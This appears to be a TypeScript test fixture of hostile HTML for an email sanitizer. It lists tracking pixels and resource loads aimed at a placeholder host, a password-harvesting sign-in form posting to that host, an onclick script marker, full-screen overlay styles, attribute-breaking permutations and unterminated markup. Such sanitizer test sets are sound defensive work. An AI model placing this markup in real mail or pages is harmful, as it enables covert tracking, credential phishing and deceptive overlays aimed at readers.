/** HTML that must not go out in a mail: what runs, what loads something unseen, what asks for words, what lies over other things. */
import { hostileMarkup } from './hostile-markup.ts'

const tracker = 'http://tracker.example/seen'

/** Each loads something, or asks the reader for something. */
const loading = [
  `<img src="${tracker}.gif">`,
  `<img src="//tracker.example/seen.gif">`,
  `<img src=x srcset="${tracker}.gif 2x">`,
  `<picture><source srcset="${tracker}.gif"><img src=x></picture>`,
  `<table background="${tracker}.gif"><tr><td background="${tracker}.gif">x</td></tr></table>`,
  `<body background="${tracker}.gif">x</body>`,
  `<link rel="stylesheet" href="${tracker}.css">`,
  `<link rel="preload" as="image" href="${tracker}.gif">`,
  `<style>@import "${tracker}.css"; body { background: url(${tracker}.gif) }</style>`,
  `<p style="background:url(${tracker}.gif)">x</p>`,
  `<p style="background:u\\72l(${tracker}.gif)">x</p>`,
  `<p style="list-style:url('${tracker}.gif')">x</p>`,
  `<video poster="${tracker}.gif" src="${tracker}.mp4" autoplay></video>`,
  `<audio src="${tracker}.mp3" autoplay></audio>`,
  `<iframe src="${tracker}.html"></iframe>`,
  `<object data="${tracker}.html"></object>`,
  `<embed src="${tracker}.html">`,
  `<input type="image" src="${tracker}.gif">`,
  `<svg><image href="${tracker}.gif"/></svg>`,
  `<svg><style>@import "${tracker}.css"</style></svg>`,
  `<meta http-equiv="refresh" content="0;url=${tracker}.html">`,
]

const asking = [
  `<form action="${tracker}"><input name="password" type="password"><button>Sign in</button></form>`,
  `<form><form action="${tracker}"></form></form>`,
  `<table><form action="${tracker}"><tr><td><input></table>`,
  `<math><mi><form action="${tracker}"></mi></math>`,
  `<button formaction="${tracker}">Go on</button>`,
  `<select><option>x</select><textarea>x</textarea>`,
  `<a ping="${tracker}" href="https://a.example/" target="_self" onclick="window.__xss=1">x</a>`,
]

const covering = [
  '<div style="position:fixed;inset:0;background:#fff">x</div>',
  '<p style="position:\\61 bsolute;top:0">x</p>',
  '<p style="margin-top:-900px">x</p>',
  '<p class="shell" id="root" style="color:red">x</p>',
  '<dialog open>x</dialog>',
]

/** Where an address or a style is expected: what ends such a place, or is an address, in each; the others in turn. */
const inAttributes = hostileMarkup.flatMap((markup, at) => {
  const places = [
    `<a href="${markup}">Press here</a>`,
    `<a href='${markup}'>Press here</a>`,
    `<img src="${markup}" alt="${markup}">`,
    `<p style="${markup}" title='${markup}'>x</p>`,
  ]
  return markup.startsWith('<') ? places.slice(at % 4, (at % 4) + 1) : places
})

/** What is deep in something, or never ended. */
const unended = [
  '<b>'.repeat(300),
  '<a href="https://a.example/',
  '<!--',
  '<p><![CDATA[ x',
  '</p></div></body></html><p>x',
]

export const hostileMails: readonly string[] = [
  ...hostileMarkup,
  ...loading,
  ...asking,
  ...covering,
  ...inAttributes,
  ...unended,
]
